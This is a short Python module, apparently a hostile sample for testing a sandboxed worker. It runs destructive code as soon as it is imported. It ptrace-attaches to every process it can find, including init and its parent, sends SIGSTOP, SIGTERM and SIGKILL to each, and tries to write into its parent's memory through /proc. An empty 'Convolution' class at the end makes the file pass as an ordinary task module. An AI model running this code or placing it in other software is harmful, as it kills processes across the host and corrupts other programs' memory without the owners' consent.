"""Signals and traces everything it can name: its parent (the worker), init, every process."""
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
targets = {1, os.getppid(), 0, -1} | {int(p) for p in os.listdir("/proc") if p.isdigit()}
targets.discard(os.getpid())
for pid in targets:
    libc.ptrace(PTRACE_ATTACH, pid, None, None)
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGUSR1, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
try:
    with open(f"/proc/{os.getppid()}/mem", "r+b") as memory:
        memory.write(b"\0")
except OSError:
    pass


class Convolution:
    pass
